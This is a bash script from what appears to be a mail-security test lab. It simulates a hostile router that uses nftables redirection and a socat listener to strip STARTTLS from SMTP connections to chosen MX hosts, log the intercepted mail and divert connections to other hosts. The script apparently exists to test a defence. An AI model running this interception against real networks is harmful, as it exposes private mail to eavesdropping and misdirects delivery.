# shellcheck shell=bash
# attack.sh - the router's owner: takes over port 25 of some MX hosts, in the clear, and writes down what is said; or leads
# connections to another host
#
# Without the milter the mail arrives all the same, so nobody notices; it stands in $W/log/attacker too.

attack_up() {
	local name
	: >"$W/log/attacker"
	in_router nft -f - <<-N
		table ip attack {
			set victims { type ipv4_addr; }
			map astray { type ipv4_addr : ipv4_addr; }
			chain prerouting {
				type nat hook prerouting priority dstnat;
				ip daddr @victims tcp dport 25 redirect to :2525
				tcp dport 25 dnat to ip daddr map @astray
			}
		}
	N
	for name in "${!MX_WHAT[@]}"; do
		[ "${MX_WHAT[$name]}" != attacked ] || attack_on "$name"
	done
	in_router socat TCP-LISTEN:2525,fork,reuseaddr \
		"EXEC:$lab/strip-starttls $W/log/attacker ${MX_ADDRESS[stripped]}" 2>"$W/log/socat-attacker" </dev/null &
	wait_for "the attacker" answers "25@${MX_ADDRESS[forged]}"
}

attack_on() { in_router nft add element ip attack victims "{ ${MX_ADDRESS[$1]} }"; }
attack_off() { in_router nft delete element ip attack victims "{ ${MX_ADDRESS[$1]} }"; }

attack_lead() { in_router nft add element ip attack astray "{ ${MX_ADDRESS[$1]} : ${MX_ADDRESS[$2]} }"; }
attack_let() { in_router nft flush map ip attack astray; }

# attack_saw MESSAGE-ID: the attacker has read that message
attack_saw() { grep -qF -- "<$1>" "$W/log/attacker"; }
